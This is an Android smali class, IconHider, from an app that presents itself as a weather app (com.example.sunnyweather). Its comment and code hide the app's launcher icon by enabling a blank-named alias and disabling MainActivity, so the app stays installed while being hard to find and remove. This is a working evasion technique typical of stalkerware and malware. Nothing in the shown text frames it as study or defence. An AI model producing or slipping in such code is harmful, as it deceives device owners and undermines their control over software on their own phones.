# Swaps the launcher entry for one with a blank name: the app is still there, and hard to find and remove.

.class public final Lcom/example/sunnyweather/IconHider;
.super Ljava/lang/Object;
.source "IconHider.java"

.method public static hide(Landroid/content/Context;)V
    .locals 5
    .line 9
    invoke-virtual {p0}, Landroid/content/Context;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v0
    const/4 v4, 0x1    # PackageManager.DONT_KILL_APP
    .line 10
    new-instance v1, Landroid/content/ComponentName;
    const-string v2, "com.example.sunnyweather.NoIcon"
    invoke-direct {v1, p0, v2}, Landroid/content/ComponentName;-><init>(Landroid/content/Context;Ljava/lang/String;)V
    const/4 v3, 0x1    # COMPONENT_ENABLED_STATE_ENABLED
    invoke-virtual {v0, v1, v3, v4}, Landroid/content/pm/PackageManager;->setComponentEnabledSetting(Landroid/content/ComponentName;II)V
    .line 11
    new-instance v1, Landroid/content/ComponentName;
    const-string v2, "com.example.sunnyweather.MainActivity"
    invoke-direct {v1, p0, v2}, Landroid/content/ComponentName;-><init>(Landroid/content/Context;Ljava/lang/String;)V
    const/4 v3, 0x2    # COMPONENT_ENABLED_STATE_DISABLED
    invoke-virtual {v0, v1, v3, v4}, Landroid/content/pm/PackageManager;->setComponentEnabledSetting(Landroid/content/ComponentName;II)V
    return-void
.end method
